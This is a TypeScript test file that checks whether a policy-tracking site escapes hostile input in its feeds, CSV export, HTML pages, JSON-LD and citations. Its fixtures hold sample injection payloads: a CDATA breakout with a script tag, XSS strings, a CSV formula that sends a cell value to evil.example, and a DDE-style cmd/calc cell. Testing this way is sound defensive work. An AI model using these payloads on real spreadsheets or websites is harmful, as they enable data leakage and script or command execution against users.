/**
 * Every output format escapes for its own syntax. The hostile cases that
 * validation accepts (markup, CDATA breakouts and formulas in titles, names and
 * summaries) are applied together to one copy of the fixture atlas, whose
 * other files are given CRLF line ends and a BOM (rel-13), and that copy is
 * checked in-process and then built for real:
 *
 * - rel-03: a title that closes the RSS CDATA section round-trips as text in
 *   every feed, with no element from content;
 * - rel-04: formula cells in clauses.csv are neutralised (OWASP), JSONL exact;
 * - rel-05: characters XML forbids are dropped by the feed writer even when
 *   they get past validation;
 * - HTML, JSON-LD, OG cards and citations of the built site carry the markup as text.
 */
import { cpSync, existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { XMLParser } from 'fast-xml-parser';
import { parse as parseHtml } from 'parse5';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { clausesCsv, clausesJsonl, clauseColumns } from '../../src/atlas/outputs/exports.ts';
import { feedFiles } from '../../src/atlas/outputs/feeds.ts';
import { formatProblem, loadAtlas, type Atlas } from '../../src/atlas/index.ts';
import { buildContent, type AstroBuild } from '../../scripts/lib/astro-build.ts';
import { checkBuiltSite, checkFeed, checkGeneratedOutputs } from '../../scripts/lib/fuzz/check-output.ts';
import { copyFixtureAtlas, type FixtureCopy } from '../support/fixture-atlas.ts';
import { toCrlf } from '../support/line-ends.ts';

const CASES = join(import.meta.dirname, 'cases');
const ACCEPTED = ['feed-cdata-breakout', 'csv-formula', 'markup-in-text-fields'];
const NOW = new Date('2026-01-01T00:00:00Z');

const ACME_TITLE = 'Acme Privacy Policy ]]>x]]><script xmlns="http://www.w3.org/1999/xhtml">alert(document.domain)</script><![CDATA[';
const BIRDY_TITLE = 'Birdy ]]></title><link>https://evil.example/</link><title><![CDATA[ Privacy Policy';
const FORMULA_TITLE = '=HYPERLINK("https://evil.example/?leak="&A2,"Open source")';
const FORMULA_SUMMARY = '@SUM(1+1)*cmd|" /C calc"!A0 keeps your messages';
const SCRIPT_TITLE = '</script><script>alert(1)</script> Disputes go to arbitration';
const BIRDY_NAME = 'Birdy "><svg onload=alert(1)>';

let copy: FixtureCopy;
let atlas: Atlas;

beforeAll(() => {
  copy = copyFixtureAtlas();
  toCrlf(copy.root, { snapshots: false, bom: true });
  for (const name of ACCEPTED) cpSync(join(CASES, name, 'files'), copy.root, { recursive: true });
  const loaded = loadAtlas(copy.root, { now: NOW, displayBase: join(copy.root, '..') });
  expect(loaded.errors.map(formatProblem)).toEqual([]);
  atlas = loaded.atlas;
});
afterAll(() => copy?.dispose());

const xml = new XMLParser({ ignoreAttributes: false, isArray: (name) => ['item', 'entry'].includes(name) });
/** Text of a title element, whether the parser gives it as a string or with attributes. */
const titleText = (title: unknown) => (typeof title === 'object' && title !== null ? String((title as { '#text': unknown })['#text']) : String(title));

/** Titles of the items of one feed, as a feed reader reads them. */
function itemTitles(path: string, body: string): string[] {
  if (path.endsWith('.json')) return (JSON.parse(body) as { items: Array<{ title: string }> }).items.map((i) => i.title);
  const doc = xml.parse(body) as { rss?: { channel: { item?: Array<{ title: unknown }> } }; feed?: { entry?: Array<{ title: unknown }> } };
  const items = doc.rss?.channel.item ?? doc.feed?.entry ?? [];
  // Atom titles are declared as HTML, so a reader unescapes them once more.
  const decode = (text: string) => (doc.feed ? text.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&amp;/g, '&') : text);
  return items.map((i) => decode(titleText(i.title)));
}

describe('feeds (rel-03, rel-05)', () => {
  it('carry a title that closes CDATA exactly as written, in RSS, Atom and JSON Feed, with no element from content', () => {
    const feeds = feedFiles(atlas);
    // The atlas's, Acme's and its privacy policy's own feeds list versions of the retitled document.
    const withAcme = feeds.filter((f) => /^\/(changes|platform\/acme|platform\/acme\/privacy-policy)\/[^/]+$/.test(f.path));
    expect(withAcme).toHaveLength(9);
    for (const feed of feeds) expect(checkFeed(feed.path, feed.body), feed.path).toEqual([]);
    for (const feed of withAcme) {
      const titles = itemTitles(feed.path, feed.body);
      expect(titles.filter((t) => t.startsWith(`${ACME_TITLE} `)).length, feed.path).toBeGreaterThan(0);
    }
    const birdy = feeds.filter((f) => f.path.startsWith('/platform/birdy/'));
    for (const feed of birdy) expect(itemTitles(feed.path, feed.body).every((t) => t.startsWith(`${BIRDY_TITLE} `)), feed.path).toBe(true);
  });

  it('drop characters XML forbids even when they reach the writer', () => {
    const document = atlas.documents.find((d) => d.key === 'acme/privacy-policy');
    if (!document) throw new Error('fixture document missing');
    const original = document.data.title;
    document.data.title = 'Acme\u000b Privacy\u001b Policy\u0000 ]]> \uFFFF';
    try {
      for (const feed of feedFiles(atlas)) {
        expect(checkFeed(feed.path, feed.body), feed.path).toEqual([]);
        expect(feed.body).not.toMatch(/[\u0000\u000b\u001b\uFFFF]/);
      }
      const rss = feedFiles(atlas).find((f) => f.path === '/changes/feed.xml');
      expect(itemTitles('/changes/feed.xml', rss?.body ?? '').some((t) => t.startsWith('Acme Privacy Policy ]]> '))).toBe(true);
    } finally {
      document.data.title = original;
    }
  });
});

describe('clauses.csv (rel-04)', () => {
  it('neutralises cells a spreadsheet would run as formulas, with a leading quote and quotes around the cell', () => {
    const csv = clausesCsv(atlas);
    const rows = parseCsv(csv, { columns: true }) as Array<Record<string, string>>;
    const byId = new Map(rows.map((r) => [r.id, r]));
    expect(byId.get('FX-P-000002')?.title).toBe(`'${FORMULA_TITLE}`);
    expect(byId.get('FX-P-000001')?.summary).toBe(`'${FORMULA_SUMMARY}`);
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A2,""Open source"")"`);
    expect(csv).toContain(`"'@SUM(1+1)*cmd|"" /C calc""!A0 keeps your messages"`);
    // Every other cell is unchanged: no cell starts a formula, and ordinary cells gain no quote.
    expect(checkGeneratedOutputs(atlas)).toEqual([]);
    expect(Object.keys(rows[0] ?? {})).toEqual(clauseColumns);
    expect(byId.get('FX-P-000003')?.title).not.toMatch(/^'/);
  });

  it('leaves atlas.jsonl the exact values', () => {
    const rows = clausesJsonl(atlas)
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { id: string; title: string; summary: string });
    expect(rows.find((r) => r.id === 'FX-P-000002')?.title).toBe(FORMULA_TITLE);
    expect(rows.find((r) => r.id === 'FX-P-000001')?.summary).toBe(FORMULA_SUMMARY);
  });
});

interface Node {
  nodeName: string;
  attrs?: Array<{ name: string; value: string }>;
  childNodes?: Node[];
  value?: string;
}
function* nodes(node: Node): Generator<Node> {
  yield node;
  for (const child of node.childNodes ?? []) yield* nodes(child);
}
const textOf = (node: Node): string => (node.nodeName === '#text' ? (node.value ?? '') : (node.childNodes ?? []).map(textOf).join(''));
const attr = (node: Node, name: string) => node.attrs?.find((a) => a.name === name)?.value;

describe('a build of every accepted hostile case, with CRLF line ends and BOMs', () => {
  let site: AstroBuild;
  const read = (path: string) => readFileSync(join(site.out, path), 'utf8');
  beforeAll(async () => {
    site = await buildContent(copy.root);
  });
  afterAll(() => site?.dispose());

  it('builds', () => {
    expect(site.status, site.output.slice(-3000)).toBe(0);
  });

  it('writes only well-formed files with no script or event handler from content', () => {
    const { checked, failures } = checkBuiltSite(site.out);
    expect(checked).toBeGreaterThan(100);
    expect(failures).toEqual([]);
  });

  it('shows markup in a clause title as text in the page title, headings, JSON-LD and OG tags', () => {
    const page = parseHtml(read('platform/acme/terms-of-service/arbitration/index.html')) as unknown as Node;
    const all = [...nodes(page)];
    expect(textOf(all.find((n) => n.nodeName === 'title') ?? page)).toContain(SCRIPT_TITLE);
    expect(textOf(all.find((n) => n.nodeName === 'h1') ?? page)).toContain(SCRIPT_TITLE);
    expect(all.filter((n) => n.nodeName === 'meta' && attr(n, 'property') === 'og:title').map((n) => attr(n, 'content'))).toEqual([expect.stringContaining(SCRIPT_TITLE)]);
    const jsonLd = all.filter((n) => n.nodeName === 'script' && attr(n, 'type') === 'application/ld+json').map((n) => JSON.stringify(JSON.parse(textOf(n))));
    expect(jsonLd.some((json) => json.includes(JSON.stringify(SCRIPT_TITLE).slice(1, -1)))).toBe(true);
    const ogImage = all.find((n) => n.nodeName === 'meta' && attr(n, 'property') === 'og:image');
    const ogPath = new URL(attr(ogImage ?? page, 'content') ?? 'https://x/none').pathname;
    expect(existsSync(join(site.out, ogPath)), ogPath).toBe(true);
  });

  it('keeps a platform name with markup as text on its page', () => {
    const page = parseHtml(read('platform/birdy/index.html')) as unknown as Node;
    const all = [...nodes(page)];
    expect(textOf(all.find((n) => n.nodeName === 'h1') ?? page)).toContain(BIRDY_NAME);
    expect(all.filter((n) => n.nodeName === 'svg' && n.attrs?.some((a) => a.name === 'onload'))).toEqual([]);
  });

  it('writes citations whose title is the clause title, escaped for each format', () => {
    const id = atlas.clauses.find((c) => c.key === 'acme/terms-of-service/arbitration')?.data.id ?? '';
    expect(JSON.parse(read(`cite/${id}.json`))[0].title).toBe(SCRIPT_TITLE);
    expect(read(`cite/${id}.ris`)).toContain(`TI  - ${SCRIPT_TITLE}\r\n`);
  });

  it('builds analyses from CRLF files with a BOM as from LF files', () => {
    const html = read('platform/acme/privacy-policy/ai-training/index.html');
    expect(html).toContain('What it is</h2>');
    expect(html).not.toContain('\r');
    expect(readdirSync(join(site.out, 'platform', 'acme', 'privacy-policy', 'ai-training'))).toContain('index.html');
  });
});
